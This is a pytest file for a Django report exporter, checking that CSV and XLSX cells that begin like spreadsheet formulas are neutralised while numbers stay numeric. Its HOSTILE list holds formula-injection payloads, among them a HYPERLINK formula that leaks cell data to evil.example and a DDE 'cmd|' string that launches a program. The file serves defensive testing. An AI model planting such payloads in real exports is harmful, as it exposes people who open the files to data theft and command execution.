"""Cells a spreadsheet would run as a formula are neutralised in CSV and
XLSX; numbers stay numbers."""

import pytest

from reports.registry import Column, ReportType
from reports.writers.cells import neutralise
from tests.reports.conftest import stored
from tests.reports.readers import csv_rows, xlsx_cells

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_report(registered):
    @registered
    class Hostile(ReportType):
        name = "tests.hostile"
        title = "Hostile"
        columns = [Column("text"), Column("number")]

        def rows(self, params):
            for index, text in enumerate(HOSTILE):
                yield {"text": text, "number": -index - 0.5 if index % 2 else -index}
            yield {"text": "plain text - with a dash inside", "number": 7}

    return Hostile


def test_csv_cells_that_start_like_a_formula_get_a_leading_apostrophe(generated, hostile_report):
    run = generated("tests.hostile", "csv")

    _, *rows = csv_rows(stored(run))
    assert [row[0] for row in rows] == ["'" + text for text in HOSTILE] + ["plain text - with a dash inside"]


def test_csv_numbers_stay_numbers_even_when_negative(generated, hostile_report):
    run = generated("tests.hostile", "csv")

    _, *rows = csv_rows(stored(run))
    assert [row[1] for row in rows] == ["0", "-1.5", "-2", "-3.5", "-4", "-5.5", "7"]
    # Written bare, so a spreadsheet reads them as numbers.
    raw = stored(run).read_bytes()
    assert b",-1.5\r\n" in raw
    assert b"'-1.5" not in raw and b'"-1.5"' not in raw


def test_xlsx_cells_that_start_like_a_formula_are_text_with_a_quote_prefix(generated, hostile_report):
    run = generated("tests.hostile", "xlsx")

    _, *rows = xlsx_cells(stored(run))
    texts = [row[0] for row in rows]
    # The text itself is kept (XML reads a bare CR back as LF).
    assert [cell.value for cell in texts[:-1]] == [text.replace("\r", "\n") for text in HOSTILE]
    for cell, text in zip(texts, HOSTILE, strict=False):
        assert cell.data_type == "s", text
        assert cell.quotePrefix, text
    assert texts[-1].quotePrefix is False


def test_xlsx_numbers_stay_numbers(generated, hostile_report):
    run = generated("tests.hostile", "xlsx")

    _, *rows = xlsx_cells(stored(run))
    assert [row[1].value for row in rows] == [0, -1.5, -2, -3.5, -4, -5.5, 7]
    assert {row[1].data_type for row in rows} == {"n"}


def test_the_headers_are_neutralised_too():
    assert neutralise("=SUM(A1)") == "'=SUM(A1)"
    assert neutralise("Runtime (s)") == "Runtime (s)"


def test_xlsx_keeps_error_codes_as_text_and_drops_control_characters(tmp_path):
    from zoneinfo import ZoneInfo

    from reports.writers import Document
    from reports.writers.xlsx_writer import write

    path = tmp_path / "odd.xlsx"
    document = Document(title="Odd", subtitle="", columns=[Column("text")], charts=[], tz=ZoneInfo("UTC"))

    write(path, document, [["#N/A"], ["ring\x07 the bell\x00"]])

    _, code, bell = xlsx_cells(path)
    assert (code[0].value, code[0].data_type, code[0].quotePrefix) == ("#N/A", "s", True)
    assert bell[0].value == "ring the bell"
